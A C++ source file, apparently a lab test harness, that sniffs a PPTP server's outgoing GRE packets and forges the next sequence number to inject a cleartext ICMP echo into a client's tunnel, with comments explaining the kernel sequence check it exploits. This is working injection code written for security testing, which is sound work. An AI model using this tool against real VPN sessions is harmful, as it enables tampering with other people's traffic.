// The lab's on-path attacker (tests/lab/inject-guard.sh), run in the server's
// namespace: waits for the server to send one GRE packet with a sequence
// number to the client's call, then forges the next one: the same call ID,
// that sequence number + 1, and PPP protocol 0x0021 carrying an ICMP echo
// request from INNER_SRC to INNER_DST, all in clear.
//
// Why the next number: pptp.c's pptp_rcv_core() hands a frame to PPP only if
// its sequence number is above the last one it accepted (seq_recv; LCP
// echoes excepted), and then takes it as the new seq_recv. Sniffing the
// server's own packets on the way out gives that number exactly.
//
//   gre_inject IFACE SERVER CLIENT CALL_ID INNER_SRC INNER_DST [TIMEOUT_S]
//
// Prints "forged seq N (the server's last was N-1)" and exits 0; exits 1
// with a sentence if no packet to copy came within TIMEOUT_S (default 10).
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "gre_forge.hpp"

namespace {

bool parse_addr(const char* s, gre_forge::Addr& out) {
  in_addr a{};
  if (inet_pton(AF_INET, s, &a) != 1) return false;
  std::memcpy(out.data(), &a, 4);
  return true;
}

int fail(const std::string& why) {
  std::fprintf(stderr, "gre_inject: %s\n", why.c_str());
  return 1;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 7) return fail("usage: gre_inject IFACE SERVER CLIENT CALL_ID INNER_SRC INNER_DST [TIMEOUT_S]");
  gre_forge::Addr server{}, client{}, inner_src{}, inner_dst{};
  if (!parse_addr(argv[2], server) || !parse_addr(argv[3], client) || !parse_addr(argv[5], inner_src) ||
      !parse_addr(argv[6], inner_dst))
    return fail("an address is not IPv4");
  const auto call = static_cast<std::uint16_t>(std::strtoul(argv[4], nullptr, 0));
  const int timeout_s = argc > 7 ? std::atoi(argv[7]) : 10;

  const unsigned ifindex = if_nametoindex(argv[1]);
  if (ifindex == 0) return fail(std::string("no interface ") + argv[1]);
  // Cooked packets (no link header). ETH_P_ALL: only taps of every protocol
  // see outgoing packets (dev_queue_xmit_nit walks ptype_all).
  const int sniff = ::socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
  if (sniff < 0) return fail(std::string("packet socket: ") + std::strerror(errno));
  sockaddr_ll ll{};
  ll.sll_family = AF_PACKET;
  ll.sll_protocol = htons(ETH_P_ALL);
  ll.sll_ifindex = static_cast<int>(ifindex);
  if (::bind(sniff, reinterpret_cast<sockaddr*>(&ll), sizeof ll) < 0) return fail(std::string("bind: ") + std::strerror(errno));
  const int raw = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return fail(std::string("raw socket: ") + std::strerror(errno));
  std::printf("gre_inject: listening on %s for the server's GRE to call %u\n", argv[1], call);
  std::fflush(stdout);

  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(timeout_s);
  std::uint8_t buf[2048];
  while (std::chrono::steady_clock::now() < until) {
    pollfd p{sniff, POLLIN, 0};
    if (::poll(&p, 1, 100) <= 0) continue;
    sockaddr_ll from{};
    socklen_t fl = sizeof from;
    const ssize_t n = ::recvfrom(sniff, buf, sizeof buf, 0, reinterpret_cast<sockaddr*>(&from), &fl);
    if (n < 20 + 12 || from.sll_pkttype != PACKET_OUTGOING || from.sll_protocol != htons(ETH_P_IP)) continue;
    const std::size_t ihl = (buf[0] & 0x0F) * 4u;
    if (buf[9] != IPPROTO_GRE || std::memcmp(buf + 12, server.data(), 4) != 0 ||
        std::memcmp(buf + 16, client.data(), 4) != 0 || static_cast<std::size_t>(n) < ihl + 12)
      continue;
    const std::uint8_t* g = buf + ihl;
    const bool has_seq = (g[0] & 0x10) != 0;
    const auto id = static_cast<std::uint16_t>((g[6] << 8) | g[7]);
    if (!has_seq || id != call) continue;
    const std::uint32_t seq = (std::uint32_t{g[8]} << 24) | (std::uint32_t{g[9]} << 16) | (std::uint32_t{g[10]} << 8) | g[11];

    gre_forge::Gre forged;
    forged.call_id = call;
    forged.seq = seq + 1;
    forged.ppp = gre_forge::ppp_ipv4(gre_forge::icmp_echo(inner_src, inner_dst, 0x1d1d, 1));
    const auto pkt = gre_forge::ipv4(server, client, IPPROTO_GRE, gre_forge::gre(forged));
    sockaddr_in to{};
    to.sin_family = AF_INET;
    std::memcpy(&to.sin_addr, client.data(), 4);
    if (::sendto(raw, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) !=
        static_cast<ssize_t>(pkt.size()))
      return fail(std::string("sendto: ") + std::strerror(errno));
    std::printf("gre_inject: forged seq %u (the server's last was %u)\n", seq + 1, seq);
    return 0;
  }
  return fail("the server sent no GRE with a sequence number to call " + std::to_string(call) + " within " +
              std::to_string(timeout_s) + " s");
}
